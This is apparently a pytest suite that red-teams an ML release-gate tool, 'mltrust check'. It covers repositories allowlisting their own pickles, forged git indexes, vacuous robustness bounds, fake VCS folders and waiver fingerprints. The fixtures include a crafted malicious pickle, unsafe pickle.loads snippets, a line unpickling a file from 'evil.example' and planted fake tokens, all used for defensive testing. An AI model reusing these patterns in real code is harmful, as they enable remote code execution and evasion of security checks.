"""Attacks on the `mltrust check` release gate by the repository under check (second red team):
the subject configuring its own model scan, forged git metadata, vacuous robustness boxes,
non-repository VCS folders and evidence JSON, fingerprints not bound to the code they name."""

from __future__ import annotations

import datetime as dt
import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from _check_helpers import PEM_KEY
from mltrust.cli._main import main
from mltrust.evidence import CollectContext, collect_evidence
from mltrust.evidence._robustness import _by_threat_model, _figures, domain_kind
from mltrust.policy import ControlStatus, evaluate, load_profile

#: REDUCE of mypkg.hooks:run("id") -- a function of the repository itself (never executed).
_OWN_FUNCTION_PICKLE = b"\x80\x02cmypkg.hooks\nrun\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."
UNSAFE = "import pickle, sys\npickle.loads(sys.stdin.buffer.read())\n"
SOON = (dt.date.today() + dt.timedelta(days=30)).isoformat()


def _check(root: Path, **kw: object):  # type: ignore[no-untyped-def]
    bundle = collect_evidence(CollectContext(root, **kw))  # type: ignore[arg-type]
    return bundle, evaluate(bundle.document, load_profile("default"))


def _status(verdict, control: str) -> ControlStatus:  # type: ignore[no-untyped-def]
    return next(r.status for r in verdict.results if r.control.id == control)


def _git(root: Path, *args: str) -> None:
    git = shutil.which("git")
    if git is None:
        pytest.skip("git is not installed (it writes the repository this test needs)")
    done = subprocess.run(
        [git, "-c", "user.name=t", "-c", "user.email=t@t", *args],
        cwd=root,
        capture_output=True,
        text=True,
        env={**os.environ, "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1"},
    )
    assert done.returncode == 0, f"git {' '.join(args)}: {done.returncode}: {done.stderr}"


def _run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, dict]:
    code = main(["check", *args, "-f", "json", "--no-store"])
    out, err = capsys.readouterr()
    assert code != 2, err
    return code, json.loads(out)


def _control(report: dict, control: str) -> str:
    return str(next(c["status"] for c in report["controls"] if c["id"] == control))


# -- 1. the project's own config weakens the model scan ----------------------------------------


def _pickle_project(root: Path) -> Path:
    (root / "mypkg").mkdir(parents=True)
    (root / "mypkg" / "__init__.py").write_text("")
    (root / "mypkg" / "hooks.py").write_text("def run(cmd):\n    return cmd\n")
    (root / "model.pkl").write_bytes(_OWN_FUNCTION_PICKLE)
    return root


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("mltrust.toml", '[scan]\nallow_globals = ["mypkg.*:*"]\nfail_on = "critical"\n'),
        ("pyproject.toml", '[tool.mltrust.scan]\nallow_globals = ["mypkg.*:*"]\n'),
    ],
)
def test_attack_project_scan_config_allowlists_its_own_pickle(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    name: str,
    text: str,
) -> None:
    p = _pickle_project(tmp_path / "proj")
    (p / name).write_text(text)
    monkeypatch.chdir(p)  # in CI the current folder is the checkout under check
    code, report = _run(capsys, str(p))
    assert code == 1
    assert _control(report, "model-scan-clean") == "fail"
    assert report["evidence"]["scan"]["findings_by_severity"]["medium"] >= 1
    assert report["evidence"]["scan"]["ignored_config"] == [
        "mltrust.toml" if name == "mltrust.toml" else "pyproject.toml [tool.mltrust]"
    ]


def test_operator_scan_config_is_given_with_scan_config(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    p = _pickle_project(tmp_path / "proj")
    (p / "mltrust.toml").write_text('[scan]\nallow_globals = ["mypkg.*:*"]\n')
    operator = tmp_path / "ci-scan.toml"
    operator.write_text('[scan]\nallow_globals = ["mypkg.hooks:run"]\n')
    _, report = _run(capsys, str(p), "--scan-config", str(operator))
    assert _control(report, "model-scan-clean") == "pass"
    assert report["evidence"]["scan"]["ignored_config"] == ["mltrust.toml"]
    # Naming the subject's own file explicitly is the operator's choice: used, not "ignored".
    _, report = _run(capsys, str(p), "--scan-config", str(p / "mltrust.toml"))
    assert _control(report, "model-scan-clean") == "pass"
    assert report["evidence"]["scan"]["ignored_config"] == []


def test_attack_integration_scan_from_inside_the_model_ignores_its_config(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from mltrust.errors import UnsafeModelError
    from mltrust.integrations._common import scan_clean

    p = _pickle_project(tmp_path / "artifacts")
    (p / "mltrust.toml").write_text('[scan]\nallow_globals = ["mypkg.*:*"]\n')
    monkeypatch.chdir(p)  # the operator runs from inside the downloaded artifacts
    with pytest.raises(UnsafeModelError):
        scan_clean(p)


# -- 2. a forged git index hides pruned folders -------------------------------------------------


def _pruned_payload(root: Path) -> None:
    (root / "main.py").write_text("import app.core\n")
    (root / "node_modules" / "x").mkdir(parents=True)
    (root / "node_modules" / "x" / "evil.py").write_text(UNSAFE)


def test_attack_forged_git_index_with_zero_entries(tmp_path: Path) -> None:
    _pruned_payload(tmp_path)
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "index").write_bytes(b"DIRC\0\0\0\2\0\0\0\0")
    bundle, verdict = _check(tmp_path)
    subject = bundle.document["subject"]
    assert subject["git_index"] is False and subject["git_index_ignored"]
    assert [r["path"] for r in subject["unanalysed"]] == ["node_modules/"]
    assert _status(verdict, "analysis-complete") is ControlStatus.FAIL


def test_attack_forged_git_index_gitdir_inside_subject(tmp_path: Path) -> None:
    _pruned_payload(tmp_path)
    (tmp_path / ".cache" / "g").mkdir(parents=True)
    (tmp_path / ".cache" / "g" / "index").write_bytes(b"DIRC\0\0\0\2\0\0\0\0")
    (tmp_path / ".git").write_text("gitdir: .cache/g\n")
    bundle, verdict = _check(tmp_path)
    assert "inside the subject" in bundle.document["subject"]["git_index_ignored"]
    assert _status(verdict, "analysis-complete") is ControlStatus.FAIL


def test_attack_forged_git_index_without_commit(tmp_path: Path) -> None:
    # An index git itself wrote (valid checksum, real entries) but no commit behind HEAD:
    # what a forger gets without building an object store.
    _pruned_payload(tmp_path)
    _git(tmp_path, "init", "-q")
    _git(tmp_path, "add", "main.py")
    bundle, verdict = _check(tmp_path)
    assert "HEAD" in bundle.document["subject"]["git_index_ignored"]
    assert _status(verdict, "analysis-complete") is ControlStatus.FAIL


def test_attack_forged_git_index_copied_from_another_tree(tmp_path: Path) -> None:
    # A real repository's metadata whose index names files this tree does not hold.
    _pruned_payload(tmp_path)
    (tmp_path / "other.py").write_text("x = 1\n")
    _git(tmp_path, "init", "-q")
    _git(tmp_path, "add", "main.py", "other.py")
    _git(tmp_path, "commit", "-qm", "x")
    (tmp_path / "other.py").unlink()
    bundle, verdict = _check(tmp_path)
    assert "other.py" in bundle.document["subject"]["git_index_ignored"]
    assert _status(verdict, "analysis-complete") is ControlStatus.FAIL


def test_attack_forged_git_index_calls_secret_uncommitted(tmp_path: Path) -> None:
    (tmp_path / "key.pem").write_text(PEM_KEY)
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "index").write_bytes(b"DIRC\0\0\0\2\0\0\0\0")
    bundle, verdict = _check(tmp_path)
    (secret,) = bundle.document["code"]["secrets"]
    assert secret["git"] == "unknown"
    assert _status(verdict, "no-committed-secrets") is ControlStatus.FAIL


def test_real_git_checkout_still_vouches_for_untracked_folders(tmp_path: Path) -> None:
    _pruned_payload(tmp_path)
    _git(tmp_path, "init", "-q")
    _git(tmp_path, "add", "main.py")
    _git(tmp_path, "commit", "-qm", "x")
    # The commit now lives in a pack (not `git gc`: it also prunes reflogs and worktrees, and failed
    # once on CI's machine with no message kept).
    _git(tmp_path, "repack", "-a", "-d", "-q")
    _git(tmp_path, "prune-packed")
    bundle, verdict = _check(tmp_path)
    subject = bundle.document["subject"]
    assert subject["git_index"] is True and subject["git_index_ignored"] == ""
    assert [r["path"] for r in subject["unanalysed_untracked"]] == ["node_modules/"]
    assert _status(verdict, "analysis-complete") is ControlStatus.PASS


# -- 3. any dict counts as a bounded robustness domain ------------------------------------------


@pytest.mark.parametrize(
    ("domain", "kind"),
    [
        ({"lower": 0.0, "upper": 1.0}, "bounded"),
        ({"lower": [0, -1], "upper": [1, 1]}, "bounded"),
        ({"lower": 0, "upper": [1, 255]}, "bounded"),
        ({"lower": -1e30, "upper": 1e30}, "unbounded"),
        ({"lower": 0.0, "upper": None}, "unbounded"),
        ({"lower": 0.0, "upper": float("inf")}, "unbounded"),
        ({"lower": [0, None], "upper": [1, 1]}, "unbounded"),
        ({}, "invalid"),
        ({"lower": 1, "upper": 0}, "invalid"),
        ({"lower": 0, "upper": 0}, "invalid"),
        ({"lower": [0, 0, 0], "upper": [1, 1]}, "invalid"),
        ({"lower": [], "upper": []}, "invalid"),
        ({"lower": "0", "upper": "1"}, "invalid"),
        ({"lower": float("nan"), "upper": 1}, "invalid"),
        ({"lower": True, "upper": 1}, "invalid"),
        ("bounded", "invalid"),
        ("unbounded", "unbounded"),
        ([0, 1], "invalid"),
    ],
)
def test_attack_robustness_domain_vacuous_box(domain: object, kind: str) -> None:
    assert domain_kind(domain) == kind
    pred = {
        "threat_model": {"norm": "inf", "domain": domain, "attack": "pgd"},
        "results": [{"eps": 0.05, "robust_accuracy": 0.9}],
    }
    (entry,) = _by_threat_model(list(_figures(pred, "rob.json")))
    assert entry["domain"] == kind


# -- 4. root .hg/.svn folders that are no repositories, secrets in .mltrust JSON ----------------


def test_attack_vcs_store_that_is_not_a_repository(tmp_path: Path) -> None:
    (tmp_path / ".hg").mkdir()
    (tmp_path / ".svn").mkdir()
    (tmp_path / "main.py").write_text("import sys\nsys.path.insert(0, '.hg')\nimport plugin\n")
    (tmp_path / ".hg" / "plugin.py").write_text(UNSAFE)
    (tmp_path / ".svn" / "evil.py").write_text(UNSAFE)
    bundle, verdict = _check(tmp_path)
    assert [r["path"] for r in bundle.document["subject"]["unanalysed"]] == [".hg/", ".svn/"]
    assert _status(verdict, "analysis-complete") is ControlStatus.FAIL
    # Real stores (their structural markers present) are repository metadata, not content.
    (tmp_path / ".hg" / "requires").write_text("store\n")
    (tmp_path / ".svn" / "wc.db").write_bytes(b"SQLite format 3\0")
    bundle, verdict = _check(tmp_path)
    assert bundle.document["subject"]["unanalysed"] == []
    assert _status(verdict, "analysis-complete") is ControlStatus.PASS


def test_attack_secret_in_mltrust_evidence_json(tmp_path: Path) -> None:
    (tmp_path / ".mltrust").mkdir()
    # mltrust: ignore[MLT-CODE-010] a planted test secret, assembled from pieces
    token = "ghp_" + "1234567890abcdefghijklmnopqrstuvwxyzAB"
    (tmp_path / ".mltrust" / "deploy.json").write_text(json.dumps({"github_token": token}))
    (tmp_path / "app.py").write_text("print('hello')\n")
    bundle, verdict = _check(tmp_path)
    assert [s["path"] for s in bundle.document["code"]["secrets"]] == [".mltrust/deploy.json"]
    assert _status(verdict, "no-committed-secrets") is ControlStatus.FAIL
    assert bundle.document["code"]["dangerous"] == []


# -- 5. fingerprints not bound to the line's content --------------------------------------------


def _dangerous_fp(bundle) -> list[str]:  # type: ignore[no-untyped-def]
    return [f["fingerprint"] for f in bundle.document["code"]["dangerous"]]


def test_attack_fingerprint_waiver_survives_rewritten_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    p = tmp_path / "proj"
    (p / "src").mkdir(parents=True)
    cache = p / "src" / "cache.py"
    cache.write_text(
        'import pickle\n\ndef cached():\n    return pickle.loads(open("/var/cache/a.pkl", '
        '"rb").read())\n'
    )
    code, report = _run(capsys, str(p))
    (finding,) = [f for f in report["evidence"]["code"]["dangerous"] if f["severity"] == "high"]
    waivers = tmp_path / "waivers.yaml"
    waivers.write_text(
        f"waivers:\n  - fingerprint: {finding['fingerprint']}\n    justification: reviewed\n"
        f"    expires: {SOON}\n"
    )
    code, report = _run(capsys, str(p), "--waivers", str(waivers))
    assert code == 0 and [w["fingerprint"] for w in report["waived_findings"]] == [
        finding["fingerprint"]
    ]
    # Whitespace only: the same code, the same fingerprint.
    cache.write_text(
        'import pickle\n\ndef cached():\n    return pickle.loads( open("/var/cache/a.pkl",'
        '"rb").read() )\n'
    )
    code, report = _run(capsys, str(p), "--waivers", str(waivers))
    assert code == 0
    # The same line, rewritten to unpickle a download: the waiver no longer applies.
    cache.write_text(
        "import pickle, urllib.request\n\ndef cached():\n    return pickle.loads("
        'urllib.request.urlopen("http://evil.example/m.pkl").read())\n'
    )
    code, report = _run(capsys, str(p), "--waivers", str(waivers))
    assert code == 1 and report["waived_findings"] == []
    assert _control(report, "no-dangerous-code") == "fail"


def test_attack_fingerprint_of_secret_follows_the_secret(tmp_path: Path) -> None:
    # mltrust: ignore[MLT-CODE-010] a planted test secret, assembled from pieces
    token = "ghp_" + "1234567890abcdefghijklmnopqrstuvwxyzAB"
    (tmp_path / "config.py").write_text(f"TOKEN = '{token}'\n")
    bundle, _ = _check(tmp_path)
    (first,) = bundle.document["code"]["secrets"]
    # mltrust: ignore[MLT-CODE-010] a planted test secret, assembled from pieces
    other = "ghp_" + "ZYXWVUTSRQPONMLKJIHGFEDCBA0987654321ab"
    (tmp_path / "config.py").write_text(f"TOKEN = '{other}'\n")
    bundle, _ = _check(tmp_path)
    (second,) = bundle.document["code"]["secrets"]
    assert first["fingerprint"] != second["fingerprint"]
    assert token not in json.dumps(bundle.document) and other not in json.dumps(bundle.document)


def test_attack_fingerprint_in_notebook_cell_follows_the_code(tmp_path: Path) -> None:
    from _check_helpers import notebook

    nb = tmp_path / "a.ipynb"
    nb.write_text(notebook(["x = 1\n", "import pickle\npickle.loads(open('a', 'rb').read())\n"]))
    bundle, _ = _check(tmp_path)
    before = _dangerous_fp(bundle)
    nb.write_text(notebook(["x = 1\n", "import pickle\npickle.loads(fetch())\n"]))
    bundle, _ = _check(tmp_path)
    after = _dangerous_fp(bundle)
    assert before and after and not set(before) & set(after)
